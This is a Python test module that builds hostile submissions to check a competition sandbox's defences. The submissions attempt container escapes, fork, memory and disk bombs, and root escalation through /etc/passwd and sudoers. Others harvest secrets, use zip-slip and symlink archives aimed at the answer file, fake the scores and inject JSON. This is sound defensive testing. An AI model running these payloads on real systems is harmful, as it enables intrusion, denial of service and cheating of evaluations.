"""The hostile submissions of the attack catalogue: programs, archives and predictions files.

A hostile program is `PRELUDE` followed by its body, zipped as `main.py` next to a
`context.json` that tells it everything an attacker could know or guess about the host:
the host paths of the hidden data and of another team's files, and the addresses of the
listeners the test started. It never receives the secrets themselves, so when one of them
shows up in its output it was found, not given.

Every program reports on one stdout line, `REPORT {json}`:
- `refused`: each thing it tried that failed, with the error (all must fail);
- `allowed`: each thing it tried that worked (must stay empty);
- `found`: anything of value its searches turned up (must stay empty);
- `facts`: what it observed, for the catalogue's own checks.
Probe programs end by writing honest predictions, so the judging of the submission goes on
normally and its scores prove the attack changed nothing.
"""

from __future__ import annotations

import io
import json
import stat
import tarfile
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

MiB = 1024 * 1024

PRELUDE = r'''
import csv, ctypes, errno, json, os, socket, stat, subprocess, sys, time

MARKER = sys.argv[1]
CONTEXT = json.load(open("context.json"))
REPORT = {"refused": {}, "allowed": {}, "found": [], "facts": {}}
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
SKIP = ("/proc", "/sys", "/dev")


def why(exc):
    code = getattr(exc, "errno", None)
    if isinstance(code, int):
        return f"{type(exc).__name__}({errno.errorcode.get(code, code)})"
    return f"{type(exc).__name__}: {exc}"[:200]


def attempt(name, action):
    try:
        value = action()
    except Exception as exc:
        REPORT["refused"][name] = why(exc)
    else:
        REPORT["allowed"][name] = repr(value)[:300]


def fact(name, value):
    REPORT["facts"][name] = value


def found(what):
    REPORT["found"].append(str(what)[:1000])


def report():
    print("REPORT " + json.dumps(REPORT, sort_keys=True), flush=True)


def checked(result):
    if result == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def libc(name, *args):
    return checked(getattr(LIBC, name)(*args))


def syscall(number, *args):
    return checked(LIBC.syscall(ctypes.c_long(number), *args))


def write(path, data=b"x", mode="wb"):
    with open(path, mode) as f:
        f.write(data)


def read(path, limit=1 << 20):
    with open(path, "rb") as f:
        return f.read(limit)


def nonempty(data):
    if not data:
        raise LookupError("nothing there (masked)")
    return data


def run(*command):
    done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=10)
    if done.returncode != 0:
        raise RuntimeError(f"exit {done.returncode}: {done.stderr.decode(errors='replace')[:150]}")
    return done.stdout


def walk(top="/", skip=SKIP):
    for root, dirs, files in os.walk(top, onerror=lambda e: None):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip]
        for name in files:
            yield os.path.join(root, name)


def predict():
    """What an honest team writes: the inputs' `guess` column as predictions."""
    rows = list(csv.DictReader(open(os.path.join(os.environ["MAREA_INPUT_DIR"], "test.csv"))))
    with open(os.environ["MAREA_PREDICTIONS_FILE"], "w") as out:
        out.write("id,sst\n")
        for row in rows:
            out.write(f"{row['id']},{row['guess']}\n")
'''


# -- the submissions ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Code:
    """A code submission: PRELUDE + body as main.py, zipped with context.json."""

    body: str


@dataclass(frozen=True)
class Archive:
    """A hand-made archive: `build(path, marker)` writes it (the suffix says zip or tar.gz)."""

    build: Callable[[Path, str], None]
    suffix: str = ".zip"


@dataclass(frozen=True)
class Upload:
    """An uploaded predictions file, its bytes made on demand (some are large)."""

    content: Callable[[], bytes]


Submission = Code | Archive | Upload


def make_submission(
    submission: Submission, dest: Path, marker: str, context: dict[str, Any]
) -> tuple[Path, str]:
    """Write the submission under `dest` (a file name without suffix); return it and its kind."""
    if isinstance(submission, Code):
        path = dest.with_suffix(".zip")
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
            zf.writestr("main.py", PRELUDE + textwrap.dedent(submission.body))
            zf.writestr("context.json", json.dumps(context))
        return path, "code"
    if isinstance(submission, Archive):
        path = dest.with_suffix(submission.suffix)
        submission.build(path, marker)
        return path, "code"
    path = dest.with_suffix(".csv")
    path.write_bytes(submission.content())
    path.chmod(0o644)
    return path, "predictions"


# -- escapes -----------------------------------------------------------------------------------

ESCAPE = r"""
os.makedirs("/tmp/m", exist_ok=True)
attempt("mount a tmpfs", lambda: libc("mount", b"none", b"/tmp/m", b"tmpfs", 0, None))
attempt("unshare a user namespace", lambda: libc("unshare", 0x10000000))
attempt("unshare a mount namespace", lambda: libc("unshare", 0x00020000))
attempt("chroot", lambda: libc("chroot", b"/tmp"))
attempt("setns into pid 1's mount namespace",
        lambda: libc("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0x00020000))
# The 'shocker' escape: open a host inode by handle (needs CAP_DAC_READ_SEARCH).
handle = ctypes.create_string_buffer(8 + 8)
ctypes.memmove(handle, (ctypes.c_uint32 * 2)(8, 1), 8)
attempt("open_by_handle_at (shocker)", lambda: syscall(304, -100, handle, 0))
attempt("load a kernel module", lambda: syscall(175, ctypes.c_char_p(b"\0" * 64), 64, b""))
attempt("reboot", lambda: syscall(169, ctypes.c_uint(0xFEE1DEAD), ctypes.c_uint(672274793), ctypes.c_uint(0), None))
attempt("overwrite our own executable", lambda: open("/proc/self/exe", "r+b"))


def kill_keepalive():
    import signal
    for sig in (signal.SIGTERM, signal.SIGKILL):
        os.kill(1, sig)
    time.sleep(0.2)
    if os.path.exists("/proc/1"):
        raise LookupError("pid 1 ignored the signals")

attempt("kill the container's pid 1", kill_keepalive)
attempt("overwrite pid 1's executable", lambda: open("/proc/1/exe", "r+b"))
report()
predict()
"""

DOCKER_SOCKET = r"""
def unix_connect(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect(path)
    s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
    return s.recv(200)

for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
             "/var/run/docker/containerd/containerd.sock", "/run/podman/podman.sock"):
    attempt(f"connect {path}", lambda p=path: unix_connect(p))
for host in ["127.0.0.1", *CONTEXT["host_addresses"]]:
    for port in (2375, 2376):
        attempt(f"docker API on {host}:{port}",
                lambda h=host, p=port: socket.create_connection((h, p), timeout=1))
for path in walk("/"):
    try:
        if stat.S_ISSOCK(os.lstat(path).st_mode):
            found(f"socket {path}")
    except OSError:
        pass
fact("DOCKER_HOST", os.environ.get("DOCKER_HOST"))
report()
predict()
"""

DEVICES = r"""
for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/sda", "/dev/vda",
             "/dev/nvme0n1", "/dev/fuse", "/dev/net/tun"):
    attempt(f"open {path}", lambda p=path: open(p, "rb"))
attempt("mknod a block device", lambda: os.mknod("/tmp/sda", stat.S_IFBLK | 0o600, os.makedev(8, 0)))
attempt("mknod /dev/mem's twin", lambda: os.mknod("/tmp/mem", stat.S_IFCHR | 0o600, os.makedev(1, 1)))
fact("dev", sorted(os.listdir("/dev")))
report()
predict()
"""

# -- resource exhaustion -------------------------------------------------------------------------

# A fork bomb that keeps the pids limit exhausted: every child stays (a shell blocked on a
# read, its command line carrying the marker) and every slot freed is taken again at once.
_BOMB = r"""
def bomb():
    hold, _ = os.pipe()
    while True:
        try:
            pid = os.fork()
        except OSError:
            continue
        if pid == 0:
            os.dup2(hold, 0)
            os.execv("/bin/sh", ["sh", "-c", "read forever", MARKER])


def fork_until_refused():
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        try:
            pid = os.fork()
        except OSError as exc:
            REPORT["refused"]["fork while the bomb runs"] = why(exc)
            break
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
    report()


if os.fork() == 0:
    if DETACH:
        os.setsid()
    bomb()
"""

# The program starts the bomb, watches its own forks fail, then waits.
FORK_BOMB = "DETACH = False\n" + _BOMB + "fork_until_refused()\ntime.sleep(3600)\n"

# The bomb is left behind, detached: the program itself finishes properly.
FORK_BOMB_LEFT_BEHIND = "DETACH = True\npredict()\n" + _BOMB + "fork_until_refused()\n"

MEMORY_BOMB = r"""
print("allocating", flush=True)
blocks = []
while True:
    blocks.append(b"\x01" * (16 << 20))
"""

MEMORY_BOMB_IN_CHILD = r"""
pid = os.fork()
if pid == 0:
    blocks = []
    while True:
        blocks.append(b"\x01" * (16 << 20))
_, status = os.waitpid(pid, 0)
fact("child killed by signal", os.WTERMSIG(status) if os.WIFSIGNALED(status) else None)
report()
predict()
"""

# Fill every place that could be written, one at a time; each must stop at its own cap.
DISK_FILL = r"""
def fill(folder):
    written, names = 0, []
    try:
        while True:
            name = os.path.join(folder, f"fill-{len(names)}")
            names.append(name)
            with open(name, "wb") as f:
                for _ in range(4):
                    f.write(b"\0" * (1 << 20))
                    written += 1 << 20
    except OSError as exc:
        return written, why(exc)
    finally:
        for name in names:
            try:
                os.remove(name)
            except OSError:
                pass

for folder in ("/tmp", os.environ["MAREA_OUTPUT_DIR"], "/dev/shm", "/submission", "/inputs",
               "/var/tmp", "/home", "/"):
    written, stopped = fill(folder)
    fact(f"filled {folder}", written)
    REPORT["refused"][f"fill {folder}"] = stopped
report()
predict()
"""

CPU_SPIN = r"""
import signal
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGXCPU):
    signal.signal(sig, signal.SIG_IGN)
print("spinning", flush=True)
for _ in range(3):
    if os.fork() == 0:
        break
while True:
    pass
"""

# -- output floods -------------------------------------------------------------------------------

STD_FLOOD = r"""
line = ("flood " * 1000 + "\n").encode()
for _ in range(4000):
    sys.stdout.buffer.write(line)
    sys.stderr.buffer.write(line)
sys.stdout.flush()
sys.stderr.flush()
predict()
report()
"""

HUGE_PREDICTIONS = r"""
try:
    with open(os.environ["MAREA_PREDICTIONS_FILE"], "w") as out:
        out.write("id,sst\n")
        while True:
            out.write("b1,14.5\n" * 100000)
except OSError as exc:
    REPORT["refused"]["grow predictions.csv past the output cap"] = why(exc)
fact("bytes written", os.path.getsize(os.environ["MAREA_PREDICTIONS_FILE"]))
report()
"""

MANY_FILES = r"""
out = os.environ["MAREA_OUTPUT_DIR"]
for i in range(12000):
    open(os.path.join(out, f"f{i:05}"), "w").close()
fact("files written", len(os.listdir(out)))
report()
"""

OUTPUT_LINKS = r"""
out = os.environ["MAREA_OUTPUT_DIR"]
write(os.path.join(out, "real.txt"), b"just a file\n")
os.symlink(CONTEXT["host"]["reference_file"], os.environ["MAREA_PREDICTIONS_FILE"])
os.symlink("/etc/passwd", os.path.join(out, "passwd"))
os.symlink("..", os.path.join(out, "up"))
os.link(os.path.join(out, "real.txt"), os.path.join(out, "hard.txt"))
os.mkfifo(os.path.join(out, "fifo"))
fact("output", sorted(os.listdir(out)))
report()
"""

ODD_OUTPUT_NAMES = r"""
predict()
out = os.environ["MAREA_OUTPUT_DIR"]
os.chdir(out)
for _ in range(400):  # relative steps: the whole path is far past PATH_MAX
    os.mkdir("d" * 50)
    os.chdir("d" * 50)
write("bottom.txt")
fact("depth", os.getcwd().count("/"))
os.chdir("/submission")
write(os.path.join(out, "line\nbreak.txt"))
write(os.path.join(out.encode(), b"not-utf8-\xff.txt"))
write(os.path.join(out, "." * 3))
report()
"""


# -- reading what is not ours --------------------------------------------------------------------


def _host_probes(keys: tuple[str, ...]) -> str:
    """Open each named host path directly, through /proc/1/root and through /proc/self/root.

    Any of them named in our mount table is a find too (our own code folder is mounted, so
    the work root's path is no secret: it is only tried for reading).
    """
    return rf"""
def look(path):
    if os.path.isdir(path):
        return os.listdir(path)
    return read(path)

for key in {keys!r}:
    path = CONTEXT["host"][key]
    for prefix in ("", "/proc/1/root", "/proc/self/root"):
        attempt(f"read host {{key}} via {{prefix or '/'}}", lambda p=prefix + path: look(p))
mounts = read("/proc/self/mountinfo").decode()
for key in {keys!r}:
    if key != "work_root" and CONTEXT["host"][key] in mounts:
        found(f"{{key}} is mounted: {{CONTEXT['host'][key]}}")
"""


HUNT_REFERENCE = (
    _host_probes(("reference_dir", "reference_file"))
    + r"""
for path in walk("/"):
    name = os.path.basename(path).lower()
    if any(word in name for word in ("answer", "reference", "truth", "solution")) and not path.startswith(("/usr/", "/etc/")):
        found(f"{path}: {read(path, 300)!r}" if os.access(path, os.R_OK) else path)
for top in ("/submission", "/inputs", "/tmp", "/output", "/home", "/root", "/mnt", "/srv",
            "/opt", "/run", "/media", "/var/tmp", "/var/opt", "/scoring", "/reference"):
    for path in walk(top):
        if path == "/submission/main.py":  # this program, which names what it looks for
            continue
        try:
            data = read(path)
        except OSError:
            continue
        if b"sst,split" in data or b",public" in data or b",private" in data:
            found(f"{path}: {data[:300]!r}")
fact("root", sorted(os.listdir("/")))
report()
predict()
"""
)

HUNT_OTHER_TEAM = (
    _host_probes(("other_team_file", "other_team_dir", "work_root", "uploads"))
    + r"""
ours = {"/submission/main.py", "/submission/context.json"}
for path in walk("/"):
    if path in ours or path.startswith(("/usr/", "/etc/", "/var/lib/")):
        continue
    if path.endswith((".py", ".zip", ".csv", ".tar.gz", ".ipynb")) and not path.startswith("/inputs/"):
        found(f"{path}: {read(path, 300)!r}" if os.access(path, os.R_OK) else path)
fact("workdirs", [d for d in ("/work", "/var/marea", "/srv/marea") if os.path.exists(d)])
report()
predict()
"""
)

ENV_SECRETS = r"""
seen = {"os.environ": dict(os.environ)}
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    for what in ("environ", "cmdline"):
        try:
            seen[f"/proc/{pid}/{what}"] = read(f"/proc/{pid}/{what}").decode(errors="replace")
        except OSError as exc:
            seen[f"/proc/{pid}/{what}"] = why(exc)
fact("seen", seen)
fact("names", sorted(os.environ))
for path in ("/run/secrets", "/var/run/secrets", "/etc/marea", "/.env", "/submission/.env",
             "/proc/1/root/run/secrets"):
    if os.path.exists(path):
        found(path)
for name in CONTEXT["secret_names"]:
    attempt(f"read ${name}", lambda n=name: os.environ[n])
report()
predict()
"""

# -- privilege escalation and writes outside the output folder ---------------------------------

PRIVILEGE = r"""
attempt("setuid(0)", lambda: os.setuid(0))
attempt("setgid(0)", lambda: os.setgid(0))
attempt("setgroups([0])", lambda: os.setgroups([0]))
hdr = (ctypes.c_uint32 * 2)(0x20080522, 0)
data = (ctypes.c_uint32 * 6)(1 << 21, 1 << 21, 0, 0, 0, 0)
attempt("capset CAP_SYS_ADMIN", lambda: libc("capset", hdr, data))
attempt("read /etc/shadow", lambda: read("/etc/shadow"))
attempt("add a root user to /etc/passwd", lambda: write("/etc/passwd", b"evil::0:0::/:/bin/sh\n", "ab"))
attempt("write /etc/sudoers.d", lambda: write("/etc/sudoers.d/evil", b"ALL ALL=(ALL) NOPASSWD: ALL\n"))
os.makedirs("/tmp/m", exist_ok=True)
attempt("mount through the setuid mount binary", lambda: run("/usr/bin/mount", "-t", "tmpfs", "tmpfs", "/tmp/m"))
attempt("su to root", lambda: run("/usr/bin/su", "-c", "id -u", "root"))
attempt("sudo", lambda: run("sudo", "-n", "id", "-u"))
write("/tmp/mine", b"x")
attempt("give a file to root", lambda: os.chown("/tmp/mine", 0, 0))
status = dict(line.split(":", 1) for line in read("/proc/self/status").decode().splitlines())
for key in ("Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"):
    fact(key, " ".join(status[key].split()))
report()
predict()
"""

WRITE_OUTSIDE = r"""
for path in ("/evil", "/etc/evil", "/usr/local/bin/evil", "/bin/evil", "/submission/evil",
             "/inputs/evil", "/var/tmp/evil", "/home/evil", "/run/evil", "/opt/evil",
             "/root/evil", "/var/lib/evil", "/sys/kernel/evil"):
    attempt(f"create {path}", lambda p=path: write(p))
attempt("overwrite /submission/main.py", lambda: write("/submission/main.py", b"pwned", "ab"))
attempt("overwrite /inputs/test.csv", lambda: write("/inputs/test.csv", b"pwned", "ab"))
attempt("rename /submission/main.py", lambda: os.rename("/submission/main.py", "/submission/x"))
attempt("chmod /inputs/test.csv", lambda: os.chmod("/inputs/test.csv", 0o666))
attempt("touch /inputs/test.csv", lambda: os.utime("/inputs/test.csv", (0, 0)))
attempt("write the host's reference", lambda: write(CONTEXT["host"]["reference_file"], b"pwned", "ab"))
attempt("write the host's work root", lambda: write(os.path.join(CONTEXT["host"]["work_root"], "evil"), b"x"))
writable = []
for folder in ("/tmp", os.environ["MAREA_OUTPUT_DIR"], "/dev/shm"):
    try:
        write(os.path.join(folder, "probe"))
        os.remove(os.path.join(folder, "probe"))
        writable.append(folder)
    except OSError:
        pass
fact("writable", writable)
report()
predict()
"""

# -- /proc and /sys ------------------------------------------------------------------------------

PROC_SYS = r"""
fact("hostname", socket.gethostname())
processes = {}
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            processes[pid] = read(f"/proc/{pid}/cmdline").decode(errors="replace").replace("\0", " ").strip()
        except OSError:
            pass
fact("processes", processes)
attempt("write /proc/sysrq-trigger", lambda: write("/proc/sysrq-trigger", b"h"))
attempt("write /proc/sys/kernel/core_pattern", lambda: write("/proc/sys/kernel/core_pattern", b"|/tmp/evil"))
attempt("write /proc/sys/vm/drop_caches", lambda: write("/proc/sys/vm/drop_caches", b"3"))
attempt("write /proc/sys/kernel/hostname", lambda: write("/proc/sys/kernel/hostname", b"evil"))
attempt("read /proc/kcore", lambda: nonempty(read("/proc/kcore", 16)))
attempt("read kernel addresses", lambda: nonempty(
    [l for l in read("/proc/kallsyms", 65536).splitlines()[:-1] if not l.startswith(b"0" * 16)]))
buffer = ctypes.create_string_buffer(4096)
attempt("read the kernel log (syslog)", lambda: syscall(103, 3, buffer, 4096))
for controller, name, value in (("memory", "memory.limit_in_bytes", b"99999999999"),
                                ("pids", "pids.max", b"max"), ("memory", "cgroup.procs", b"1"),
                                ("memory", "release_agent", b"/tmp/evil"),
                                ("memory", "notify_on_release", b"1"),
                                ("memory", "memory.max", b"max")):
    attempt(f"write /sys/fs/cgroup/{controller}/{name}",
            lambda p=f"/sys/fs/cgroup/{controller}/{name}", v=value: write(p, v))
attempt("write /sys/fs/cgroup/memory.max", lambda: write("/sys/fs/cgroup/memory.max", b"max"))
attempt("create a cgroup", lambda: os.mkdir("/sys/fs/cgroup/memory/evil"))
attempt("join a new session keyring", lambda: syscall(250, 1, None))
attempt("add a key to the session keyring", lambda: syscall(248, b"user", b"evil", b"x", 1, ctypes.c_int(-3)))
report()
predict()
"""

# -- the network ---------------------------------------------------------------------------------

NETWORK = r"""
for host, port in CONTEXT["tcp"]:
    attempt(f"tcp {host}:{port}", lambda h=host, p=port: socket.create_connection((h, p), timeout=1))

def udp(host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.connect((host, port))
    s.send(b"hello from the sandbox")
    return s.recv(100)

for host, port in CONTEXT["udp"]:
    attempt(f"udp {host}:{port}", lambda h=host, p=port: udp(h, p))
attempt("raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
fact("interfaces", sorted(l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]))
fact("ipv4 routes", open("/proc/net/route").read().splitlines()[1:])
fact("ipv6 routes", [l for l in open("/proc/net/ipv6_route").read().splitlines() if not l.rstrip().endswith(" lo")])
report()
predict()
"""

# -- processes left behind -----------------------------------------------------------------------

DAEMONS = r"""
STAY = (
    "import os, signal, sys, time\n"
    "for s in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT): signal.signal(s, signal.SIG_IGN)\n"
    "open('/tmp/alive-' + sys.argv[1], 'w').close()\n"
    "time.sleep(600)\n"
)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", STAY, "double-fork", MARKER])
    os._exit(0)
subprocess.Popen(["nohup", sys.executable, "-c", STAY, "nohup", MARKER], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen([sys.executable, "-c", STAY, "holds-stdout", MARKER])
for _ in range(100):
    alive = sorted(n[6:] for n in os.listdir("/tmp") if n.startswith("alive-"))
    if len(alive) == 3:
        break
    time.sleep(0.05)
fact("alive", alive)
predict()
report()
"""

# -- spoofing the scorer -------------------------------------------------------------------------

FAKE_SCORES = r"""
fake = {"public": {"rmse": 0.0, "mae": 0.0}, "private": {"rmse": 0.0, "mae": 0.0}}
print(json.dumps(fake), flush=True)
print(json.dumps(fake), file=sys.stderr, flush=True)
write(os.path.join(os.environ["MAREA_OUTPUT_DIR"], "scores.json"), json.dumps(fake).encode())
write("/tmp/scores.json", json.dumps(fake).encode())
fact("MAREA_SCORES_FILE", os.environ.get("MAREA_SCORES_FILE"))
rows = list(csv.DictReader(open(os.path.join(os.environ["MAREA_INPUT_DIR"], "test.csv"))))
with open(os.environ["MAREA_PREDICTIONS_FILE"], "w") as out:
    out.write("id,sst\n")
    for row in rows:
        out.write(f"{row['id']},0\n")
report()
"""


# -- archives ------------------------------------------------------------------------------------


def _zip(path: Path, entries: list[tuple[zipfile.ZipInfo | str, bytes]]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in entries:
            zf.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)


def _link_info(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def _tar(path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]]) -> None:
    with tarfile.open(path, "w:gz") as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)


MAIN = b"print('hello')\n"


def zip_slip(path: Path, marker: str) -> None:
    _zip(path, [("main.py", MAIN), (f"../../../../escaped-{marker}.py", MAIN)])


def absolute_path(path: Path, marker: str) -> None:
    _zip(path, [("main.py", MAIN), (f"/tmp/absolute-{marker}.py", MAIN)])


def zip_bomb(path: Path, marker: str) -> None:
    """64 MiB of zeros in a zip of about 64 KiB, over the 8 MiB unpacking cap."""
    _zip(path, [("main.py", MAIN), ("weights.bin", bytes(64 * MiB))])


def tar_bomb(path: Path, marker: str) -> None:
    data = bytes(64 * MiB)
    _tar(path, [(tarfile.TarInfo("main.py"), MAIN), (tarfile.TarInfo("weights.bin"), data)])


def too_many_files(path: Path, marker: str) -> None:
    _zip(path, [("main.py", MAIN), *((f"junk/{i}.txt", b"") for i in range(5000))])


def zip_symlink(reference_file: str) -> Callable[[Path, str], None]:
    def build(path: Path, marker: str) -> None:
        _zip(path, [("main.py", MAIN), (_link_info("answers.csv"), reference_file.encode())])

    return build


def tar_symlink(reference_file: str) -> Callable[[Path, str], None]:
    def build(path: Path, marker: str) -> None:
        link = tarfile.TarInfo("answers.csv")
        link.type = tarfile.SYMTYPE
        link.linkname = reference_file
        _tar(path, [(tarfile.TarInfo("main.py"), MAIN), (link, None)])

    return build


def tar_hardlink(reference_file: str) -> Callable[[Path, str], None]:
    def build(path: Path, marker: str) -> None:
        link = tarfile.TarInfo("answers.csv")
        link.type = tarfile.LNKTYPE
        link.linkname = reference_file
        _tar(path, [(tarfile.TarInfo("main.py"), MAIN), (link, None)])

    return build


def tar_device(path: Path, marker: str) -> None:
    device = tarfile.TarInfo("disk")
    device.type = tarfile.BLKTYPE
    device.devmajor, device.devminor = 8, 0
    _tar(path, [(tarfile.TarInfo("main.py"), MAIN), (device, None)])


# -- predictions files ---------------------------------------------------------------------------

IDS = ("b1", "b2", "b3", "b4", "b5", "b6")


def predictions(values: dict[str, str], header: str = "id,sst") -> Callable[[], bytes]:
    """A predictions file with every id, some values replaced."""

    def content() -> bytes:
        rows = [f"{i},{values.get(i, '14.0')}" for i in IDS]
        return (header + "\n" + "\n".join(rows) + "\n").encode()

    return content


def enormous_line() -> bytes:
    return b"id,sst\nb1," + b"9" * (2 * MiB) + b"\n"


def enormous_header() -> bytes:
    return b"id,sst" + b",c" * (1024 * 1024) + b"\n"


def nul_bytes() -> bytes:
    return b"id,sst\nb1\x00,14.0\n"


def scores_json() -> bytes:
    fake = {"public": {"rmse": 0.0, "mae": 0.0}, "private": {"rmse": 0.0, "mae": 0.0}}
    return json.dumps(fake).encode()


def json_injection() -> bytes:
    evil = '"b1""}, ""public"": {""rmse"": 0}}\n{""scoring_error"": ""x"""'
    return f"id,sst\n{evil},14.0\n".encode()
